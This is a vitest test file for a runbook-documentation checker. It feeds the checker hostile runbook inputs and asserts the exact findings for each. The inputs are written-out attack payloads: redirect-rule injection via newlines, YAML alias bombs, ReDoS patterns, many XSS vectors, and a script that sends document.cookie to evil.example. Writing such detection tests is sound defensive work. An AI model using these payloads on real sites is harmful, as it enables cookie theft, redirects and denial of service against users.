/**
 * Hostile runbooks, as a pull request could bring them: each case is a real project,
 * checked whole, and must end in its exact findings within its time limit (the test's
 * own timeout) — never a crash, a hang, or a clean report.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { checkProject } from '../../src/plugins/check/index.ts';
import { ConfigError } from '../../src/plugins/runbook/config.ts';
import { github, pretty } from '../../src/plugins/check/reporters.ts';
import type { Diagnostic } from '../../src/plugins/runbook/diagnostic.ts';
import type { RuleId } from '../../src/plugins/check/rules.ts';
import { TODAY, type FileSpec } from '../fixtures/bad-input.ts';
import { project, removeProjects } from '../fixtures/check-project.ts';

afterAll(removeProjects);

const C = 'src/content/runbooks/t/case.md';
const M = 'src/content/runbooks/t/case.mdx';
const REVIEWED = ['review:', '  log:', '    - { date: 2026-10-01, reviewer: "@ana", change: "First version" }'];
/** A valid page: frontmatter lines 1–6, `extra` from line 7, the body from line 9 + extra.length. */
const page = (extra: string[] = [], body = '') =>
  ['---', 'title: Case', 'owner: "@ops-team"', ...REVIEWED, ...extra, '---', '', body].join('\n');
const ALLOW = 'shortlinks:\n  allowHosts: [status.example.com]\n';
/** An alias bomb: 26 levels of nine aliases each, a few hundred bytes. */
const BOMB = [
  '  a: &a [x, x, x, x, x, x, x, x, x]',
  ...'bcdefghijklmnopqrstuvwxyz'
    .split('')
    .map((l, i) => `  ${l}: &${l} [${Array(9).fill(`*${'abcdefghijklmnopqrstuvwxyz'[i]}`).join(', ')}]`),
];

interface Case {
  name: string;
  files: Record<string, FileSpec>;
  config?: string;
  /** Every error and warning of the project as `[ruleId, file, line]`. */
  expected: [RuleId, string, number][];
  /** A substring of the first finding's message. */
  message?: string;
  /** The time limit, in ms. */
  within?: number;
}

const cases: Case[] = [
  // --- _redirects and URLs: a destination must be written exactly as it is published ---
  {
    name: 'a shortlink URL with a newline that writes a redirect rule',
    config: ALLOW,
    files: {
      [C]: page([
        'shortlinks: [{ slug: x, url: "https://status.example.com/\\n/* https://evil.example/:splat 301!\\n#" }]',
      ]),
    },
    expected: [['shortlink-destination', C, 7]],
    message: 'written differently from how it is published',
  },
  {
    name: 'a shortlink URL with a tab',
    config: ALLOW,
    files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/\\tx" }]']) },
    expected: [['shortlink-destination', C, 7]],
  },
  {
    name: 'a shortlink URL with a space',
    config: ALLOW,
    files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/a b" }]']) },
    expected: [['shortlink-destination', C, 7]],
  },
  {
    name: 'a shortlink URL that closes an attribute',
    config: ALLOW,
    files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/\\"><script>" }]']) },
    expected: [['shortlink-destination', C, 7]],
  },
  {
    name: 'a shortlink URL with a U+2028 line separator',
    config: ALLOW,
    files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/\\u2028x" }]']) },
    expected: [['shortlink-destination', C, 7]],
  },
  {
    name: 'a shortlink URL written without the slash it is published with',
    config: ALLOW,
    files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com" }]']) },
    expected: [['shortlink-destination', C, 7]],
    message: '"https://status.example.com/"',
  },
  {
    name: 'a shortlink to a javascript: URL',
    config: ALLOW,
    files: { [C]: page(['shortlinks: [{ slug: x, url: "javascript:alert(1)" }]']) },
    expected: [['shortlink-destination', C, 7]],
  },
  {
    name: 'a shortlink anchor with a newline and a rule in it',
    files: { [C]: page(['shortlinks: [{ slug: x, anchor: "a\\n/* https://evil.example 301!" }]']) },
    expected: [['shortlink-anchor-missing', C, 7]],
  },
  {
    name: 'a slug: with a newline',
    files: { [C]: page(['slug: "a\\n/* https://evil.example 301!"']) },
    expected: [['page-url-conflict', C, 7]],
  },
  {
    name: 'a shortlink slug with a space and a rule',
    files: { [C]: page(['shortlinks: ["x /* https://evil.example 301!"]']) },
    expected: [['shortlink-invalid', C, 7]],
  },

  // --- YAML with limits ---
  {
    name: 'an alias bomb in severity',
    files: { [C]: page(['bomb:', ...BOMB, 'severity: *z']) },
    expected: [['frontmatter-yaml', C, 2]],
    within: 5000,
  },
  {
    name: 'an alias bomb in an unknown key',
    files: { [C]: page(['lol:', ...BOMB]) },
    expected: [['frontmatter-yaml', C, 2]],
    within: 5000,
  },
  {
    name: 'an alias inside its own value',
    files: { [C]: page(['x: &a', '  b: *a']) },
    expected: [['frontmatter-yaml', C, 2]],
  },
  {
    name: 'frontmatter nested 20,000 levels deep',
    files: { [C]: page([`deep: ${'['.repeat(20_000)}${']'.repeat(20_000)}`]) },
    expected: [['file-too-complex', C, 7]],
    within: 10_000,
  },
  {
    name: 'a 3 MB frontmatter value',
    files: { [C]: page([`description: "${'x'.repeat(3_000_000)}"`]) },
    expected: [['file-too-large', C, 1]],
    within: 10_000,
  },
  {
    name: 'an alias bomb in runbooks.config.yaml',
    config: `x: &a [1,1,1,1,1,1,1,1,1]\ny: &b [${Array(9).fill('*a').join(',')}]\nz: &c [${Array(9).fill('*b').join(',')}]\nw: [${Array(9).fill('*c').join(',')}]\n`,
    files: {},
    expected: [['config-invalid', 'runbooks.config.yaml', 1]],
  },
  {
    name: 'an alias bomb in an SLO file',
    files: {
      'src/content/slos/queue-latency.yaml': `x: &a [1,1,1,1,1,1,1,1,1]\ny: &b [${Array(9).fill('*a').join(',')}]\nz: &c [${Array(9).fill('*b').join(',')}]\nw: [${Array(9).fill('*c').join(',')}]\n`,
    },
    expected: [['slo-invalid', 'src/content/slos/queue-latency.yaml', 1]],
  },
  {
    name: 'an alias bomb in the severity ladder',
    files: {
      'src/content/severity.yaml': `x: &a [1,1,1,1,1,1,1,1,1]\ny: &b [${Array(9).fill('*a').join(',')}]\nz: &c [${Array(9).fill('*b').join(',')}]\nlevels: [${Array(9).fill('*c').join(',')}]\n`,
    },
    expected: [['severity-ladder-invalid', 'src/content/severity.yaml', 1]],
  },

  // --- Script in bodies ---
  {
    name: 'a Markdown link to javascript:',
    files: { [C]: page([], '[x](javascript:alert(1))\n') },
    expected: [['html-unsafe', C, 9]],
    message: 'a javascript: URL runs script',
  },
  {
    name: 'a Markdown link to JaVaScRiPt: in mixed case',
    files: { [C]: page([], '[x](JaVaScRiPt:alert(1))\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a Markdown link whose scheme is spelled with an entity',
    files: { [C]: page([], '[x](&#106;avascript:alert(1))\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a Markdown autolink to vbscript:',
    files: { [C]: page([], '<vbscript:msgbox(1)>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a Markdown link to a data: page',
    files: { [C]: page([], '[x](data:text/html;base64,PHNjcmlwdD4=)\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'an inline PNG as data: is an image, not script',
    files: { [C]: page([], '![dot](data:image/png;base64,iVBORw0KGgo=)\n') },
    expected: [],
  },
  {
    name: 'a raw <a href="javascript:">',
    files: { [C]: page([], '<a href="javascript:alert(1)">x</a>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a raw href with an entity inside the scheme',
    files: { [C]: page([], '<a href="jav&#x61;script:alert(1)">x</a>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a raw href with a leading space and a tab inside the scheme',
    files: { [C]: page([], '<a href=" java\tscript:alert(1)">x</a>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'an <img onerror>',
    files: { [C]: page([], '<img src=x onerror=alert(1)>\n') },
    expected: [
      ['html-unsafe', C, 9],
      ['link-broken', C, 9],
    ],
    message: 'the onerror attribute on <img> runs script',
  },
  {
    name: 'an <iframe>',
    files: { [C]: page([], '<iframe src="https://evil.example/"></iframe>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a <div onclick> deep inside other HTML, on a later line',
    files: {
      [C]: page(
        [],
        '<details>\n<summary>More</summary>\n<p><span><div onclick="steal()">x</div></span></p>\n</details>\n',
      ),
    },
    expected: [['html-unsafe', C, 11]],
  },
  {
    name: 'a <script> block',
    files: { [C]: page([], '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'an <svg onload>',
    files: { [C]: page([], '<svg onload="alert(1)"></svg>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a <form> that posts elsewhere',
    files: { [C]: page([], '<form action="https://evil.example/"><input name="token"></form>\n') },
    expected: [['html-unsafe', C, 9]],
    message: '<form> is not on the allow-list',
  },
  {
    name: 'a <meta http-equiv=refresh>',
    files: { [C]: page([], '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a <base href>',
    files: { [C]: page([], '<base href="https://evil.example/">\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a <style> block',
    files: { [C]: page([], '<style>.rb-card { display: none }</style>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a style attribute with expression()',
    files: { [C]: page([], '<span style="width: expression(alert(1))">x</span>\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'an <img> whose data: URL is an SVG',
    files: { [C]: page([], '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">\n') },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'a JSX <a href="javascript:"> in MDX',
    files: { [M]: page([], '<a href="javascript:alert(1)">x</a>\n') },
    expected: [['html-unsafe', M, 9]],
    message: 'Unsafe JSX',
  },
  {
    name: 'a JSX element with a string event handler in MDX',
    files: { [M]: page([], '<div onClick="alert(1)">x</div>\n') },
    expected: [['html-unsafe', M, 9]],
  },
  {
    name: "a <script> added through Starlight's head: field",
    files: { [C]: page(['head:', '  - { tag: script, content: "fetch(\'https://evil.example/\')" }']) },
    expected: [['html-unsafe', C, 8]],
    message: "adds a <script> to the page's <head>",
  },
  {
    name: 'a meta refresh through head:',
    files: {
      [C]: page(['head:', '  - { tag: meta, attrs: { http-equiv: refresh, content: "0;url=https://evil.example/" } }']),
    },
    expected: [['html-unsafe', C, 8]],
  },
  {
    name: 'an og:image meta through head: is fine',
    files: {
      [C]: page(['head:', '  - { tag: meta, attrs: { property: "og:image", content: "https://example.com/x.png" } }']),
    },
    expected: [],
  },
  {
    name: 'script in the banner Starlight renders as HTML',
    files: { [C]: page(['banner: { content: \'<img src=x onerror="alert(1)">\' }']) },
    expected: [['html-unsafe', C, 7]],
  },
  {
    name: "an SVG image with a script in it (served from the site's own origin)",
    files: {
      [C]: page([], '![diagram](./flow.svg)\n'),
      'src/content/runbooks/t/flow.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
    },
    expected: [['html-unsafe', C, 9]],
    message: 'Unsafe SVG image',
  },
  {
    name: 'a plain SVG image is fine',
    files: {
      [C]: page([], '![diagram](./flow.svg)\n'),
      'src/content/runbooks/t/flow.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10"/></svg>\n',
    },
    expected: [],
  },
  {
    name: "an <svg> in one block turning the next block's text into an <img onerror>",
    files: { [C]: page([], '<svg>\n\n<b>\n<img src="data:image/png;base64,AA" onerror="alert(1)">\n</b>\n\n</svg>\n') },
    expected: [
      ['html-unsafe', C, 9],
      ['html-unsafe', C, 12],
    ],
  },
  {
    name: 'an attribute left open in one block, closed in the next',
    files: { [C]: page([], '<div title="\n\n<i a=\'"onmouseover=alert(document.domain) x=y\'>\n\n</div>\n') },
    expected: [
      ['html-unsafe', C, 9],
      ['html-unsafe', C, 11],
    ],
  },
  {
    name: 'an <xmp> that hides markup from one parse and not another',
    files: { [C]: page([], '<xmp>\n<img src=x onerror=alert(1)>\n</xmp>\n') },
    expected: [
      ['html-unsafe', C, 9],
      ['link-broken', C, 10],
    ],
  },
  {
    name: 'an SVG <animate> that turns an href into javascript:',
    files: {
      [C]: page(
        [],
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>\n',
      ),
    },
    expected: [
      ['html-unsafe', C, 9],
      ['html-unsafe', C, 9],
      ['html-unsafe', C, 9],
    ],
  },
  {
    name: 'Starlight link fields that lead to javascript:',
    files: {
      [C]: page([
        'editUrl: "javascript:alert(1)"',
        'prev: { link: "javascript:alert(2)", label: P }',
        'hero: { title: H, actions: [{ text: Go, link: "javascript:alert(3)" }] }',
      ]),
    },
    expected: [
      ['html-unsafe', C, 7],
      ['html-unsafe', C, 8],
      ['html-unsafe', C, 9],
    ],
  },
  {
    name: 'a head title whose content closes the title and opens a script',
    files: { [C]: page(['head:', '  - tag: title', '    content: "</title><script>alert(1)</script><title>"']) },
    expected: [['html-unsafe', C, 8]],
  },
  {
    name: 'a meta refresh whose attribute name is upper case',
    files: {
      [C]: page(['head: [{ tag: meta, attrs: { HTTP-EQUIV: refresh, content: "0;url=https://evil.example/" } }]']),
    },
    expected: [['html-unsafe', C, 7]],
  },
  {
    name: 'an SVG image whose script has a namespace prefix',
    files: {
      [C]: page([], '![svg](./evil.svg)\n'),
      'src/content/runbooks/t/evil.svg':
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></svg>\n',
    },
    expected: [['html-unsafe', C, 9]],
  },
  {
    name: 'MDX set:html, a spread, a computed href and JSX inside an expression',
    files: {
      [M]: page(
        [],
        '<div set:html="<img src=x onerror=alert(1)>" />\n\n<img src="x.png" {...{ onerror: "alert(2)" }} />\n\n<a href={"javascript:alert(3)"}>x</a>\n\n{<img src="x.png" onerror="alert(4)" />}\n',
      ),
    },
    expected: [
      ['html-unsafe', M, 9],
      ['html-unsafe', M, 11],
      ['html-unsafe', M, 13],
      ['mdx-code', M, 15],
      ['html-unsafe', M, 15],
    ],
  },
  {
    name: 'harmless HTML passes: details, kbd, a table, an https link, a public image',
    files: {
      [C]: page(
        [],
        '<details><summary>Why</summary><kbd>Ctrl</kbd>-<kbd>C</kbd></details>\n\n<table><tr><td><a href="https://example.com/">x</a></td></tr></table>\n',
      ),
    },
    expected: [],
  },
  {
    name: 'a trusted repository may allow raw HTML',
    config: 'allowUnsafeHtml: true\n',
    files: { [C]: page([], '<iframe src="https://grafana.example/d/1"></iframe>\n') },
    expected: [],
  },

  // --- Values the tools interpret later ---
  {
    name: 'a ReDoS pattern',
    files: {
      [C]: page(['vars: { NAME: { pattern: "^(a+)+$" } }'], '```bash run id=x safety=read-only\necho "$NAME"\n```\n'),
    },
    expected: [['var-pattern-unsafe', C, 7]],
    within: 10_000,
  },
  {
    name: 'a variable bash evaluates as arithmetic, with nothing to confine it',
    files: {
      [C]: page(
        ['vars: { COUNT: { description: "How many" } }'],
        '```bash run id=x safety=read-only\n[[ "$COUNT" -gt 10 ]] && echo many\necho $(( COUNT + 1 ))\n```\n',
      ),
    },
    expected: [
      ['var-evaluated', C, 11],
      ['var-evaluated', C, 12],
    ],
    message: 'Variable COUNT is evaluated by bash here',
  },
  {
    name: 'a variable under eval whose pattern lets code through',
    files: {
      [C]: page(
        ['vars: { CMD: { pattern: "^.+$", example: "ls" } }'],
        '```bash run id=x safety=read-only\neval "$CMD"\n```\n',
      ),
    },
    expected: [['var-evaluated', C, 11]],
  },
  {
    name: 'an evaluated variable confined to digits is fine',
    files: {
      [C]: page(
        ['vars: { COUNT: { pattern: "^[0-9]+$", example: "3" } }'],
        '```bash run id=x safety=read-only\n(( COUNT > 2 )) && echo "$COUNT"\n```\n',
      ),
    },
    expected: [],
  },
  {
    name: 'an empty confirm word on a destructive block',
    files: { [C]: page([], '```bash run id=x safety=destructive confirm=""\necho x\n```\n') },
    expected: [['snippet-meta-invalid', C, 9]],
  },
  {
    name: 'safety given twice, the safe one first',
    files: { [C]: page([], '```bash run id=x safety=read-only safety=destructive\necho x\n```\n') },
    expected: [['snippet-meta-invalid', C, 9]],
  },
];

/** The findings of a project, as `runbook check` reports them (a broken runbooks.config.yaml is reported, not thrown). */
function check(dir: string): Diagnostic[] {
  try {
    return checkProject(dir, { today: TODAY });
  } catch (error) {
    if (error instanceof ConfigError) return error.diagnostics;
    throw error;
  }
}

describe('check on hostile runbooks', () => {
  it('has at least 40 cases', () => expect(cases.length).toBeGreaterThanOrEqual(40));

  for (const c of cases) {
    it(
      c.name,
      () => {
        const found = check(project(c.files, c.config));
        expect(found.map((d) => [d.ruleId, d.file, d.line])).toEqual(c.expected);
        if (c.message) expect(found[0]?.message).toContain(c.message);
        for (const d of found) expect(d.hint.length).toBeGreaterThan(10);
      },
      c.within ?? 5000,
    );
  }

  it('reports 40,000 broken anchors in one 440 KB file in linear time, the pretty report capped per file', () => {
    // In paragraphs of 100 links: one 440 KB paragraph is now file-too-complex (a block may hold 32 KB).
    const body = Array.from({ length: 40_000 }, (_, i) => `[a](#x${i})${i % 100 === 99 ? '\n\n' : ' '}`).join('');
    const found = check(project({ [C]: page([], `## Only heading\n\n${body}\n`) }));
    expect(found.filter((d) => d.ruleId === 'link-anchor-broken')).toHaveLength(40_000);
    const report = pretty({ diagnostics: found, files: 2 });
    expect(report).toContain(`… and 39800 more in ${C} (every one is in --format json)`);
    expect(report.split('\n').length).toBeLessThan(1000);
    const annotations = github({ diagnostics: found, files: 2 }).split('\n');
    // GitHub shows ten annotations of a kind per step: ten, then a notice for the rest.
    expect(annotations).toHaveLength(11);
    expect(annotations.at(-1)).toContain('39990 more findings than GitHub shows as annotations');
  }, 30_000);
});
